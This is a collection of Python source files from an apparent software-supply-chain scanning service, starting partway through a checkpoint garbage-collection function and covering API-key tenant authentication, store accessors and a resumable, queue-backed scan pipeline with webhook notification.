    namespaces, slice rows past the freshness TTL — but every DELETE is
    capped at ``batch`` rows and commits on its own, so the write lock
    is held for one small batch at a time and a claim transaction on
    the same file waits microseconds, not the 25 ms monoliths
    BENCH_load_r04 blamed for the convoy. Runs on the caller's
    connection (the sweeper opens its own per shard file); never call
    it inside a claim/ack transaction.

    Returns deleted-row counts plus ``batches`` (non-empty delete
    batches — the ``resilience:checkpoint_gc_batches`` counter feed).
    """
    batch = max(batch, 1)
    jobs_deleted = slices_deleted = batches = 0
    statements: list[tuple[str, tuple]] = []
    if retention > 0:
        statements.append((
            "jobs",
            ("DELETE FROM scan_checkpoints WHERE rowid IN ("
             " SELECT c.rowid FROM scan_checkpoints c JOIN ("
             "  SELECT job_id FROM ("
             "   SELECT job_id, MAX(created_at) AS newest"
             "   FROM scan_checkpoints GROUP BY job_id"
             "   ORDER BY newest DESC LIMIT -1 OFFSET ?)) stale"
             " ON c.job_id = stale.job_id LIMIT ?)",
             (retention,)),
        ))
        statements.append((
            "slices",
            ("DELETE FROM scan_slice_checkpoints WHERE rowid IN ("
             " SELECT s.rowid FROM scan_slice_checkpoints s JOIN ("
             "  SELECT tenant_id, request_fp FROM ("
             "   SELECT tenant_id, request_fp, ROW_NUMBER() OVER ("
             "    PARTITION BY tenant_id ORDER BY MAX(created_at) DESC) AS rn"
             "   FROM scan_slice_checkpoints GROUP BY tenant_id, request_fp)"
             "  WHERE rn > ?) stale"
             " ON s.tenant_id = stale.tenant_id"
             " AND s.request_fp = stale.request_fp LIMIT ?)",
             (retention,)),
        ))
    if max_age_s > 0:
        statements.append((
            "slices",
            ("DELETE FROM scan_slice_checkpoints WHERE rowid IN ("
             " SELECT rowid FROM scan_slice_checkpoints"
             " WHERE created_at < ? LIMIT ?)",
             (time.time() - max_age_s,)),
        ))
    for bucket, (sql, params) in statements:
        while True:
            cur = conn.execute(sql, (*params, batch))
            conn.commit()
            if cur.rowcount <= 0:
                break
            batches += 1
            if bucket == "jobs":
                jobs_deleted += cur.rowcount
            else:
                slices_deleted += cur.rowcount
            if cur.rowcount < batch:
                break
    return {"jobs": jobs_deleted, "slices": slices_deleted, "batches": batches}
