"""API-key authentication with tenant binding + role-based access.

Reference parity: src/agent_bom/api/middleware.py + rbac.py — API keys
map to (tenant, role); the tenant scope comes from the KEY, never from
an unauthenticated header (VERDICT round 1 weak #5: a bare
``x-tenant-id`` header must not select another tenant's data). Only a
wildcard-tenant admin key may choose a tenant per request via the
header.

Key sources, merged in order:

1. ``AGENT_BOM_API_KEYS`` — ``key:tenant:role[:label],…`` entries.
2. ``AGENT_BOM_API_KEYS_FILE`` — JSON list of
   ``{"key", "tenant", "role", "label"}`` objects.
3. ``AGENT_BOM_API_KEY`` (legacy single key) — wildcard-tenant admin.

With no keys configured the server runs unauthenticated (loopback-only
by default, enforced in make_server) and every request gets a
wildcard-tenant admin context — the reference's loopback developer
default (reference: README.md:90-92).
"""

from __future__ import annotations

import hmac
import json
import logging
from dataclasses import dataclass
from pathlib import Path

from agent_bom_trn import config

logger = logging.getLogger(__name__)

ROLES = ("viewer", "operator", "admin")
_ROLE_RANK = {name: rank for rank, name in enumerate(ROLES)}

# Mutating methods require operator; admin-gated path prefixes require admin.
_WRITE_METHODS = frozenset({"POST", "PUT", "PATCH", "DELETE"})
ADMIN_PATH_PREFIXES = (
    "/v1/fleet",
    "/v1/policy",
    "/v1/runtime/config",
    "/v1/db",
)

WILDCARD_TENANT = "*"


@dataclass(frozen=True)
class AuthContext:
    """The authenticated principal: tenant scope + role."""

    tenant_id: str
    role: str
    label: str = ""

    def resolve_tenant(self, requested: str | None) -> str:
        """The tenant this request operates on.

        Keys are bound to one tenant — a requested header naming another
        tenant is ignored in favor of the binding. Only wildcard ADMIN
        keys may select a tenant per request; a (misconfigured) wildcard
        key with a lesser role is pinned to the default tenant.
        """
        if self.tenant_id == WILDCARD_TENANT:
            if self.role == "admin":
                return requested or "default"
            return "default"
        return self.tenant_id

    def allows(self, method: str, path: str) -> bool:
        rank = _ROLE_RANK.get(self.role, 0)
        if any(path.startswith(p) for p in ADMIN_PATH_PREFIXES) and method in _WRITE_METHODS:
            return rank >= _ROLE_RANK["admin"]
        if method in _WRITE_METHODS:
            return rank >= _ROLE_RANK["operator"]
        return True


class APIKeyRegistry:
    """Constant-time key lookup → AuthContext."""

    def __init__(self, entries: dict[str, AuthContext] | None = None) -> None:
        self._entries = dict(entries or {})

    def __len__(self) -> int:
        return len(self._entries)

    @property
    def enabled(self) -> bool:
        return bool(self._entries)

    def authenticate(self, supplied: str) -> AuthContext | None:
        """Compare against every key (constant-time per comparison)."""
        found: AuthContext | None = None
        supplied_b = supplied.encode()
        for key, ctx in self._entries.items():
            if hmac.compare_digest(supplied_b, key.encode()):
                found = ctx
        return found

    def with_key(self, key: str, ctx: AuthContext) -> "APIKeyRegistry":
        return APIKeyRegistry({**self._entries, key: ctx})

    @classmethod
    def from_env(cls) -> "APIKeyRegistry":
        entries: dict[str, AuthContext] = {}
        raw = config._str("AGENT_BOM_API_KEYS", "")
        for idx, item in enumerate(filter(None, (part.strip() for part in raw.split(",")))):
            # Parsed from the RIGHT so keys may themselves contain ':'.
            # Labels are file-only; the env format is exactly key:tenant:role.
            fields = item.rsplit(":", 2)
            if len(fields) != 3:
                logger.warning(
                    "ignoring malformed AGENT_BOM_API_KEYS entry #%d (want key:tenant:role)",
                    idx,
                )
                continue
            key, tenant, role = fields
            if role not in ROLES:
                logger.warning(
                    "ignoring AGENT_BOM_API_KEYS entry #%d: unknown role %r "
                    "(valid: %s)",
                    idx,
                    role,
                    "/".join(ROLES),
                )
                continue
            if tenant == WILDCARD_TENANT and role != "admin":
                logger.warning(
                    "ignoring AGENT_BOM_API_KEYS entry #%d: wildcard tenant requires "
                    "the admin role",
                    idx,
                )
                continue
            entries[key] = AuthContext(tenant_id=tenant, role=role)
        keys_file = config._str("AGENT_BOM_API_KEYS_FILE", "")
        if keys_file:
            try:
                items = json.loads(Path(keys_file).read_text(encoding="utf-8"))
                if not isinstance(items, list):
                    raise TypeError("keys file must be a JSON list of objects")
                for item in items:
                    if not isinstance(item, dict) or not item.get("key"):
                        logger.warning("skipping malformed keys-file entry (want object with 'key')")
                        continue
                    role = str(item.get("role") or "viewer")
                    tenant = str(item.get("tenant") or "default")
                    if role not in ROLES or (tenant == WILDCARD_TENANT and role != "admin"):
                        logger.warning("skipping keys-file entry with invalid role/tenant combo")
                        continue
                    entries[str(item["key"])] = AuthContext(
                        tenant_id=tenant,
                        role=role,
                        label=str(item.get("label") or ""),
                    )
            except (OSError, json.JSONDecodeError, TypeError) as exc:
                logger.warning("could not load AGENT_BOM_API_KEYS_FILE: %s", exc)
        legacy = config._str("AGENT_BOM_API_KEY", "")
        if legacy and legacy not in entries:
            entries[legacy] = AuthContext(
                tenant_id=WILDCARD_TENANT, role="admin", label="legacy"
            )
        return cls(entries)


#: Context used when the registry is empty (loopback no-auth default).
NO_AUTH_CONTEXT = AuthContext(tenant_id=WILDCARD_TENANT, role="admin", label="no-auth")
