"""Process-global store accessors (reference: src/agent_bom/api/stores.py).

Every store is a swappable singleton behind set_/get_ accessors so tests
snapshot/restore them (the reference's reset_global_test_state pattern,
tests/conftest.py:517-531) and the server lifespan wires real backends.
"""

from __future__ import annotations

import threading
from typing import TYPE_CHECKING, Any, Union

from agent_bom_trn.api.graph_store import SQLiteGraphStore
from agent_bom_trn.api.job_store import SQLiteJobStore

if TYPE_CHECKING:  # pragma: no cover - typing only
    from agent_bom_trn.api.postgres_graph import PostgresGraphStore

    GraphStore = Union[SQLiteGraphStore, PostgresGraphStore]
else:
    GraphStore = SQLiteGraphStore  # runtime alias; both share the contract

_lock = threading.RLock()
_stores: dict[str, Any] = {}


def set_graph_store(store: "GraphStore | None") -> None:
    with _lock:
        _stores["graph"] = store


def _default_graph_store():
    """Backend selection (reference: AGENT_BOM_POSTGRES_URL wiring in the
    server lifespan): Postgres when configured AND psycopg importable,
    else the SQLite reference implementation."""
    from agent_bom_trn import config  # noqa: PLC0415

    dsn = config._str("AGENT_BOM_POSTGRES_URL", "")
    if dsn:
        from agent_bom_trn.api.postgres_graph import PostgresGraphStore, psycopg_available  # noqa: PLC0415

        if psycopg_available():
            return PostgresGraphStore(dsn)
        import logging  # noqa: PLC0415

        logging.getLogger(__name__).warning(
            "AGENT_BOM_POSTGRES_URL set but psycopg is not installed; using SQLite"
        )
    # File-backed SQLite when configured: worker processes sharing the
    # database see one estate graph (chaos/load harnesses, single-host
    # multi-process deployments). Default stays in-memory per process.
    return SQLiteGraphStore(config._str("AGENT_BOM_GRAPH_DB", ":memory:"))


def get_graph_store() -> "GraphStore":
    with _lock:
        if _stores.get("graph") is None:
            _stores["graph"] = _default_graph_store()
        return _stores["graph"]


def set_job_store(store: SQLiteJobStore | None) -> None:
    with _lock:
        _stores["jobs"] = store


def get_job_store() -> SQLiteJobStore:
    with _lock:
        if _stores.get("jobs") is None:
            _stores["jobs"] = SQLiteJobStore(":memory:")
        return _stores["jobs"]


def set_findings_store(findings: dict[str, list[dict[str, Any]]] | None) -> None:
    with _lock:
        _stores["findings"] = findings


def get_findings_store(tenant_id: str = "default") -> list[dict[str, Any]]:
    """Per-tenant findings list (tenant isolation matches graph/job stores)."""
    with _lock:
        if _stores.get("findings") is None:
            _stores["findings"] = {}
        return _stores["findings"].setdefault(tenant_id, [])


def reset_all_stores() -> None:
    """Test seam: drop every singleton (fresh in-memory stores on next get)."""
    with _lock:
        _stores.clear()
