"""Process-global store accessors (reference: src/agent_bom/api/stores.py).

Every store is a swappable singleton behind set_/get_ accessors so tests
snapshot/restore them (the reference's reset_global_test_state pattern,
tests/conftest.py:517-531) and the server lifespan wires real backends.
"""

from __future__ import annotations

import threading
from typing import Any

from agent_bom_trn.api.graph_store import SQLiteGraphStore
from agent_bom_trn.api.job_store import SQLiteJobStore

_lock = threading.RLock()
_stores: dict[str, Any] = {}


def set_graph_store(store: SQLiteGraphStore | None) -> None:
    with _lock:
        _stores["graph"] = store


def get_graph_store() -> SQLiteGraphStore:
    with _lock:
        if _stores.get("graph") is None:
            _stores["graph"] = SQLiteGraphStore(":memory:")
        return _stores["graph"]


def set_job_store(store: SQLiteJobStore | None) -> None:
    with _lock:
        _stores["jobs"] = store


def get_job_store() -> SQLiteJobStore:
    with _lock:
        if _stores.get("jobs") is None:
            _stores["jobs"] = SQLiteJobStore(":memory:")
        return _stores["jobs"]


def set_findings_store(findings: dict[str, list[dict[str, Any]]] | None) -> None:
    with _lock:
        _stores["findings"] = findings


def get_findings_store(tenant_id: str = "default") -> list[dict[str, Any]]:
    """Per-tenant findings list (tenant isolation matches graph/job stores)."""
    with _lock:
        if _stores.get("findings") is None:
            _stores["findings"] = {}
        return _stores["findings"].setdefault(tenant_id, [])


def reset_all_stores() -> None:
    """Test seam: drop every singleton (fresh in-memory stores on next get)."""
    with _lock:
        _stores.clear()
