"""Scan pipeline: bounded worker pool + per-step events + cancellation.

Reference parity: src/agent_bom/api/pipeline.py (ScanPipeline :624,
submit_scan_job :144, _run_scan_sync :852, cooperative cancel :52-94) —
steps discovery → extraction → scanning → analysis → output, each
emitting start/complete events the SSE route streams.
"""

from __future__ import annotations

import json
import logging
import threading
import time
import traceback
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from typing import Any, Iterator

from agent_bom_trn import config
from agent_bom_trn.api.stores import get_findings_store, get_graph_store, get_job_store
from agent_bom_trn.obs import hist as obs_hist
from agent_bom_trn.obs import propagation
from agent_bom_trn.obs import slo as obs_slo
from agent_bom_trn.obs import trace as obs_trace

logger = logging.getLogger(__name__)

_executor: ThreadPoolExecutor | None = None

STEPS = ("discovery", "extraction", "scanning", "analysis", "output")


class JobCancelled(Exception):
    pass


def _get_executor() -> ThreadPoolExecutor:
    global _executor
    if _executor is None:
        _executor = ThreadPoolExecutor(
            max_workers=config.API_SCAN_WORKERS, thread_name_prefix="scan-worker"
        )
    return _executor


_queue_lock = threading.Lock()
_queue = None
_queue_workers: list[threading.Thread] = []


_QUEUE_HEARTBEAT_S = 60.0
_QUEUE_RECLAIM_EVERY_S = 30.0


def _get_queue():
    """Durable claim queue when AGENT_BOM_SCAN_QUEUE_DB is configured —
    multiple replicas pointing at the same database share the queue and
    claim atomically (reference: api/scan_queue.py). None = in-process
    executor mode (the default single-replica path)."""
    global _queue
    url = config._str("AGENT_BOM_SCAN_QUEUE_DB", "")
    if not url:
        return None
    with _queue_lock:
        if _queue is None:
            from agent_bom_trn.api.scan_queue import make_scan_queue  # noqa: PLC0415

            _queue = make_scan_queue(url)
            for i in range(max(1, config.API_SCAN_WORKERS)):
                worker = threading.Thread(
                    target=_queue_worker_loop, name=f"scan-queue-worker-{i}", daemon=True
                )
                worker.start()
                _queue_workers.append(worker)
        return _queue


@contextmanager
def _delivery_span(claimed: dict[str, Any], worker_id: str) -> Iterator[Any]:
    """One queue delivery = one ``queue:deliver`` span parented under the
    submitter's persisted trace context, plus a ``queue:deliver`` latency
    observation feeding the delivery SLO. Redeliveries re-activate the
    same context, so every attempt — any worker, any process — lands in
    the one trace the tenant's REST call started."""
    started = time.perf_counter()
    with propagation.activate(claimed.get("trace_ctx")):
        with obs_trace.span(
            "queue:deliver",
            attrs={
                "job_id": claimed["id"],
                "attempt": claimed.get("attempts"),
                "worker": worker_id,
            },
        ) as sp:
            try:
                yield sp
            finally:
                seconds = time.perf_counter() - started
                obs_hist.observe("queue:deliver", seconds)
                obs_slo.note_request(
                    "queue:deliver", seconds, getattr(sp, "trace_id", None)
                )


def _run_claimed_job(queue, claimed: dict[str, Any], worker_id: str) -> None:
    job_id = claimed["id"]
    jobs = get_job_store()
    # A replica other than the submitter (or a restarted process) won't
    # have the job row locally — recreate it from the claimed payload so
    # the scan actually runs everywhere the queue is shared.
    if jobs.get_job(job_id) is None:
        jobs.create_job(claimed["request"], tenant_id=claimed["tenant_id"], job_id=job_id)
    stop_heartbeat = threading.Event()

    def beat() -> None:
        while not stop_heartbeat.wait(_QUEUE_HEARTBEAT_S):
            try:
                queue.heartbeat(job_id, worker_id)
            except Exception:  # noqa: BLE001
                logger.warning("queue heartbeat failed for %s", job_id)

    heartbeat_thread = threading.Thread(target=beat, name=f"hb-{job_id[:8]}", daemon=True)
    heartbeat_thread.start()
    try:
        with _delivery_span(claimed, worker_id):
            _run_scan_sync(job_id, trace_ctx=claimed.get("trace_ctx"))
    finally:
        stop_heartbeat.set()
    # _run_scan_sync records failures on the job row itself; mirror the
    # real outcome onto the queue so its counts stay truthful.
    final = jobs.get_job(job_id)
    status = (final or {}).get("status")
    if status in ("complete", "partial"):
        queue.complete(job_id, worker_id)
    else:
        # A cancel is an operator decision, not a transient fault —
        # redelivering it would resurrect work the user killed.
        queue.fail(
            job_id,
            worker_id,
            str((final or {}).get("error") or status or "unknown"),
            retryable=status != "cancelled",
        )


def _queue_worker_loop() -> None:
    import uuid as _uuid

    worker_id = f"worker-{_uuid.uuid4().hex[:8]}"
    last_reclaim = 0.0
    while True:
        queue = _queue
        if queue is None:
            return
        try:
            now = time.time()
            if now - last_reclaim >= _QUEUE_RECLAIM_EVERY_S:
                last_reclaim = now
                queue.reclaim_stale()
            claimed = queue.claim(worker_id)
        except Exception:  # noqa: BLE001 - queue hiccup: back off, retry
            logger.exception("scan queue claim failed")
            time.sleep(2.0)
            continue
        if claimed is None:
            time.sleep(0.5)
            continue
        try:
            _run_claimed_job(queue, claimed, worker_id)
        except Exception as exc:  # noqa: BLE001
            logger.exception("queued scan %s failed", claimed["id"])
            try:
                queue.fail(claimed["id"], worker_id, str(exc))
            except Exception:  # noqa: BLE001
                logger.exception("could not record queue failure for %s", claimed["id"])


def submit_scan_job(request: dict[str, Any], tenant_id: str = "default") -> str:
    jobs = get_job_store()
    job_id = jobs.create_job(request, tenant_id=tenant_id)
    # Capture the submitter's trace context NOW, on the handler thread:
    # the queue persists it per-row (survives redelivery and replica
    # hand-offs) and the executor path gets it as an explicit argument —
    # ThreadPoolExecutor does not propagate contextvars to pool threads.
    trace_ctx = propagation.current_traceparent()
    queue = _get_queue()
    if queue is not None:
        try:
            with obs_trace.span("queue:enqueue", attrs={"job_id": job_id}):
                queue.enqueue(
                    request, tenant_id=tenant_id, job_id=job_id, trace_ctx=trace_ctx
                )
        except Exception as exc:  # noqa: BLE001 - no orphaned 'queued' rows
            jobs.set_status(job_id, "failed", error=f"enqueue failed: {exc}")
            raise
    else:
        _get_executor().submit(_run_scan_sync, job_id, trace_ctx)
    return job_id


def _check_cancel(job_id: str) -> None:
    if get_job_store().cancel_requested(job_id):
        raise JobCancelled(job_id)


def _notify_scan_complete(job_id: str, request: dict[str, Any], doc: dict[str, Any]) -> None:
    """Best-effort scan-complete webhook (``request["notify_url"]``).

    The POST carries the propagated ``traceparent``, so when the target
    is the runtime gateway the forward hop lands in the SAME trace as
    the REST submission and the queue delivery — the full enqueue →
    claim → pipeline → gateway chain stitches under one trace id."""
    url = request.get("notify_url")
    if not url:
        return
    body = json.dumps(
        {
            "jsonrpc": "2.0",
            "method": "notifications/scan_complete",
            "params": {
                "job_id": job_id,
                "scan_id": doc.get("scan_id"),
                "findings": len(doc.get("findings", [])),
            },
        }
    ).encode("utf-8")
    with obs_trace.span("pipeline:notify", attrs={"job_id": job_id, "url": url}):
        headers = propagation.inject({"Content-Type": "application/json"})
        req = urllib.request.Request(url, data=body, headers=headers, method="POST")
        try:
            with urllib.request.urlopen(req, timeout=10.0) as resp:
                resp.read()
        except Exception as exc:  # noqa: BLE001 - notification never fails a job
            logger.warning("scan-complete notify for %s failed: %s", job_id, exc)


def _run_scan_sync(job_id: str, trace_ctx: str | None = None) -> None:
    """Blocking scan runner — one job, five steps, cancellable at boundaries.

    ``trace_ctx`` is the submitter's serialized trace context, passed
    explicitly because this runs on executor/queue-worker threads that
    never inherit the handler's contextvars."""
    jobs = get_job_store()
    job = jobs.get_job(job_id)
    if job is None:
        return
    request = job["request"]
    jobs.set_status(job_id, "running")
    step = "discovery"
    with propagation.activate(trace_ctx), obs_trace.span(
        "pipeline:job", attrs={"job_id": job_id}
    ):
        try:
            # ── discovery ───────────────────────────────────────────────
            with obs_trace.span("pipeline:discovery"):
                jobs.add_event(job_id, "discovery", "start")
                _check_cancel(job_id)
                if request.get("demo"):
                    from agent_bom_trn.demo import load_demo_agents

                    agents = load_demo_agents()
                elif request.get("inventory"):
                    from agent_bom_trn.inventory import agents_from_inventory

                    agents = agents_from_inventory(request["inventory"])
                else:
                    from agent_bom_trn.discovery import discover_all

                    agents = discover_all(project_path=request.get("path"))
                jobs.add_event(job_id, "discovery", "complete", f"{len(agents)} agents")

            # ── extraction ──────────────────────────────────────────────
            step = "extraction"
            with obs_trace.span("pipeline:extraction"):
                jobs.add_event(job_id, "extraction", "start")
                _check_cancel(job_id)
                if request.get("path"):
                    try:
                        from pathlib import Path

                        from agent_bom_trn.parsers import extract_packages_for_agents

                        extract_packages_for_agents(agents, Path(request["path"]))
                    except ImportError:
                        pass
                if request.get("resolve_transitive") and not request.get("offline"):
                    from agent_bom_trn.transitive import expand_agents_transitive

                    try:
                        added = expand_agents_transitive(agents)
                    except Exception as exc:  # noqa: BLE001 - resolution never fails a job
                        jobs.add_event(
                            job_id, "extraction", "progress", f"transitive failed: {exc}"
                        )
                    else:
                        jobs.add_event(
                            job_id, "extraction", "progress", f"{added} transitive package(s)"
                        )
                n_pkgs = sum(a.total_packages for a in agents)
                jobs.add_event(job_id, "extraction", "complete", f"{n_pkgs} packages")

            # ── scanning ────────────────────────────────────────────────
            step = "scanning"
            with obs_trace.span("pipeline:scanning"):
                jobs.add_event(job_id, "scanning", "start")
                _check_cancel(job_id)
                from agent_bom_trn.scanners.advisories import build_advisory_sources
                from agent_bom_trn.scanners.package_scan import scan_agents_sync

                blast_radii = scan_agents_sync(
                    agents,
                    build_advisory_sources(offline=bool(request.get("offline"))),
                    max_hop_depth=int(request.get("max_hops", 3)),
                )
                if request.get("enrich") and not request.get("offline"):
                    from agent_bom_trn.enrichment import enrich_blast_radii

                    try:
                        summary = enrich_blast_radii(blast_radii)
                    except Exception as exc:  # noqa: BLE001 - enrichment never fails a job
                        jobs.add_event(
                            job_id, "scanning", "progress", f"enrichment failed: {exc}"
                        )
                    else:
                        jobs.add_event(
                            job_id,
                            "scanning",
                            "progress",
                            f"enriched {summary.enriched} finding(s)",
                        )
                jobs.add_event(job_id, "scanning", "complete", f"{len(blast_radii)} findings")

            # ── analysis (graph build + fusion + reach) ─────────────────
            step = "analysis"
            with obs_trace.span("pipeline:analysis"):
                jobs.add_event(job_id, "analysis", "start")
                _check_cancel(job_id)
                from agent_bom_trn.graph.analyze import analyze_report
                from agent_bom_trn.output.json_fmt import to_json
                from agent_bom_trn.report import build_report

                report = build_report(agents, blast_radii, scan_sources=["api"])
                graph = analyze_report(report)
                jobs.add_event(
                    job_id,
                    "analysis",
                    "complete",
                    f"{graph.node_count} nodes, {len(graph.attack_paths)} attack paths",
                )

            # ── output (persist + notify) ───────────────────────────────
            step = "output"
            with obs_trace.span("pipeline:output"):
                jobs.add_event(job_id, "output", "start")
                doc = to_json(report)
                get_graph_store().persist_graph(
                    graph, report.scan_id, tenant_id=job["tenant_id"]
                )
                findings = get_findings_store(tenant_id=job["tenant_id"])
                findings.clear()
                findings.extend(doc["findings"])
                jobs.set_status(job_id, "complete", report=doc)
                jobs.add_event(job_id, "output", "complete")
                _notify_scan_complete(job_id, request, doc)
        except JobCancelled:
            jobs.set_status(job_id, "cancelled")
            jobs.add_event(job_id, step, "cancelled")
        except Exception as exc:  # noqa: BLE001 — job errors are reported, not raised
            logger.exception("scan job %s failed at step %s", job_id, step)
            jobs.set_status(job_id, "failed", error=f"{step}: {exc}")
            jobs.add_event(job_id, step, "failed", traceback.format_exc(limit=3))
