"""Scan pipeline: crash-safe resumable stages + per-stage events + cancellation.

Reference parity: src/agent_bom/api/pipeline.py (ScanPipeline :624,
submit_scan_job :144, _run_scan_sync :852, cooperative cancel :52-94),
promoted from at-least-once redelivery to exactly-once *effects*
(PR 9): the runner is split into named stages

    discovery → scan → enrichment → report → graph_build → notify

each persisting a digest-keyed checkpoint (api/checkpoints.py) through
the claim queue (queue mode — durable, any replica) or the job store
(executor mode). On redelivery the claiming worker verifies the
fingerprint chain and resumes from the last completed stage instead of
restarting: ``resilience:checkpoint_hit/checkpoint_write/
checkpoint_invalid/resume`` counters, plus a ``pipeline:resume``
attribute on the job span naming the first stage that ran live.

Exactly-once effects: the completion webhook is deduped through the
``notify_log`` ledger (idempotency key = job id + report-doc digest,
claimed before the POST) and the graph publish is staged + atomically
committed with a per-job dedupe — a crash anywhere leaves the previous
estate graph intact and can never double-publish or double-deliver.

Differential warm scans (PR 14) extend the chain from crash-resume to
*change-resume*: discovery fingerprints every slice (one agent's
inventory, volatile fields excluded) and the whole estate; the scan
stage replays per-slice match results cached under ``(tenant,
params_fp, slice_fp)`` and runs the match engine only over changed
slices; a byte-identical estate skips scan/enrichment/report bodies
entirely, reusing the cached report+graph document (the graph still
publishes a fresh snapshot through the staged-commit path, so
``/v1/graph/diff`` always has a before/after pair). ``scan:
slices_reused/slices_rescanned`` counters and the ``scan:warm`` SLO
prove the skips are real; ``gc_checkpoints`` bounds both checkpoint
tables on every successful commit. Cached results never outlive their
advisory data: the advisory-source identity is folded into the slice
namespace (``advisory_fingerprint``) and rows older than
``AGENT_BOM_CHECKPOINT_MAX_AGE_S`` are misses, so an unchanged estate
still re-matches against current advisories at least once per TTL.

Stage payloads are pickles of our own model objects written to our own
store moments earlier (same trust domain as the queue database file
itself); document stages (report/graph_build/notify) are JSON.
"""

from __future__ import annotations

import json
import logging
import os
import pickle
import socket
import threading
import time
import traceback
import urllib.parse
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from typing import Any, Iterator

from agent_bom_trn import config
from agent_bom_trn.api import checkpoints
from agent_bom_trn.api.stores import get_findings_store, get_graph_store, get_job_store
from agent_bom_trn.engine.telemetry import record_dispatch
from agent_bom_trn.obs import hist as obs_hist
from agent_bom_trn.obs import mem as obs_mem
from agent_bom_trn.obs import propagation
from agent_bom_trn.obs import slo as obs_slo
from agent_bom_trn.obs import trace as obs_trace
from agent_bom_trn.resilience.faults import maybe_inject

logger = logging.getLogger(__name__)

_executor: ThreadPoolExecutor | None = None

STAGES = ("discovery", "scan", "enrichment", "report", "graph_build", "notify")


class JobCancelled(Exception):
    pass


def _get_executor() -> ThreadPoolExecutor:
    global _executor
    if _executor is None:
        _executor = ThreadPoolExecutor(
            max_workers=max(1, config.API_SCAN_WORKERS), thread_name_prefix="scan-worker"
        )
    return _executor


_queue_lock = threading.Lock()
_queue = None
_queue_workers: list[threading.Thread] = []


_QUEUE_RECLAIM_EVERY_S = 30.0


def _get_queue():
    """Durable claim queue when AGENT_BOM_SCAN_QUEUE_DB is configured —
    multiple replicas pointing at the same database share the queue and
    claim atomically (reference: api/scan_queue.py). None = in-process
    executor mode (the default single-replica path).

    AGENT_BOM_API_SCAN_WORKERS=0 wires the queue with NO in-process
    claim workers — the accept-only replica shape the chaos harness uses
    (claims happen in separate worker processes it kills at will)."""
    global _queue
    url = config._str("AGENT_BOM_SCAN_QUEUE_DB", "")
    if not url:
        return None
    with _queue_lock:
        if _queue is None:
            from agent_bom_trn.api.scan_queue import make_scan_queue  # noqa: PLC0415

            _queue = make_scan_queue(url)
            for i in range(max(0, config.API_SCAN_WORKERS)):
                worker = threading.Thread(
                    target=_queue_worker_loop, name=f"scan-queue-worker-{i}", daemon=True
                )
                worker.start()
                _queue_workers.append(worker)
            _start_gc_sweeper()
        return _queue


_gc_thread: threading.Thread | None = None


def _start_gc_sweeper() -> None:
    """Low-cadence retention-GC sweeper (PR 20, satellite 1): the ONLY
    checkpoint GC in queue mode, running on dedicated side connections
    so the claim path never pays for a delete again (BENCH_load_r04
    blamed the inline post-commit GC's 25 ms write-lock holds as the #1
    convoy family). Called under ``_queue_lock``."""
    global _gc_thread
    if _gc_thread is not None or config.CHECKPOINT_GC_INTERVAL_S <= 0:
        return
    if config.CHECKPOINT_RETENTION <= 0 and config.CHECKPOINT_MAX_AGE_S <= 0:
        return
    _gc_thread = threading.Thread(
        target=_checkpoint_gc_loop, name="checkpoint-gc", daemon=True
    )
    _gc_thread.start()


def run_checkpoint_gc_once(queue) -> dict[str, int]:
    """One bounded retention-GC pass over every shard file, each on its
    own dedicated side connection (never the claim connection, never
    inside a claim/ack transaction). Deletes run in
    ``AGENT_BOM_CHECKPOINT_GC_BATCH``-row batches with a commit per
    batch, so a concurrent claim waits for one small batch at most.
    The Postgres twin GCs server-side (MVCC — no file write lock to
    convoy on). Synchronous entry point so tests and operators can force
    a sweep."""
    totals = {"jobs": 0, "slices": 0, "batches": 0}
    paths = getattr(queue, "paths", None)
    if paths is None:
        path = getattr(queue, "path", None)
        if path is None:
            swept = queue.gc_checkpoints(
                config.CHECKPOINT_RETENTION, max_age_s=config.CHECKPOINT_MAX_AGE_S
            )
            totals["jobs"] = swept.get("jobs", 0)
            totals["slices"] = swept.get("slices", 0)
            totals["batches"] = 1 if (totals["jobs"] or totals["slices"]) else 0
            if totals["batches"]:
                record_dispatch(
                    "resilience", "checkpoint_gc_batches", totals["batches"]
                )
            return totals
        paths = [path]
    from agent_bom_trn.db.connect import connect_sqlite  # noqa: PLC0415

    for shard_path in paths:
        conn = connect_sqlite(shard_path, store="checkpoint_gc")
        try:
            swept = checkpoints.gc_sweep_batched(
                conn, config.CHECKPOINT_RETENTION, config.CHECKPOINT_MAX_AGE_S,
                batch=config.CHECKPOINT_GC_BATCH,
            )
            for key in totals:
                totals[key] += swept.get(key, 0)
        finally:
            conn.close()
    if totals["batches"]:
        record_dispatch("resilience", "checkpoint_gc_batches", totals["batches"])
    return totals


def _checkpoint_gc_loop() -> None:
    while True:
        time.sleep(max(config.CHECKPOINT_GC_INTERVAL_S, 1.0))
        queue = _queue
        if queue is None:
            return
        try:
            run_checkpoint_gc_once(queue)
        except Exception:  # noqa: BLE001 - GC must never take down a worker
            logger.debug("checkpoint GC sweep failed", exc_info=True)


@contextmanager
def _delivery_span(claimed: dict[str, Any], worker_id: str) -> Iterator[Any]:
    """One queue delivery = one ``queue:deliver`` span parented under the
    submitter's persisted trace context, plus a ``queue:deliver`` latency
    observation feeding the delivery SLO. Redeliveries re-activate the
    same context, so every attempt — any worker, any process — lands in
    the one trace the tenant's REST call started."""
    started = time.perf_counter()
    with propagation.activate(claimed.get("trace_ctx")):
        with obs_trace.span(
            "queue:deliver",
            attrs={
                "job_id": claimed["id"],
                "attempt": claimed.get("attempts"),
                "worker": worker_id,
            },
        ) as sp:
            try:
                yield sp
            finally:
                seconds = time.perf_counter() - started
                obs_hist.observe("queue:deliver", seconds)
                obs_slo.note_request(
                    "queue:deliver", seconds, getattr(sp, "trace_id", None)
                )


def _fleet_beat(queue, worker_id: str, **kwargs: Any) -> None:
    """Best-effort fleet-registry heartbeat — the registry is a
    scoreboard; its failures must never touch a scan's outcome."""
    try:
        queue.worker_heartbeat(worker_id, **kwargs)
    except Exception:  # noqa: BLE001
        logger.debug("fleet heartbeat failed for %s", worker_id, exc_info=True)


def _run_slice_item(queue, claimed: dict[str, Any]) -> None:
    """Run one fanned-out slice work item (kind='slice'): load the parent
    job's discovery checkpoint, scan JUST this slice's agent, and publish
    the per-slice match artifact under the parent's ``(tenant,
    params_fp, slice_fp)`` namespace — the same idempotent upsert the
    single-worker warm path writes, so redelivery (or a racing steal)
    re-writes identical bytes instead of duplicating effects. The parent
    join observes completion through that row, never through worker
    state. Crash seam ``pipeline:slice:item`` fires BEFORE any live
    work, mirroring the stage-seam contract."""
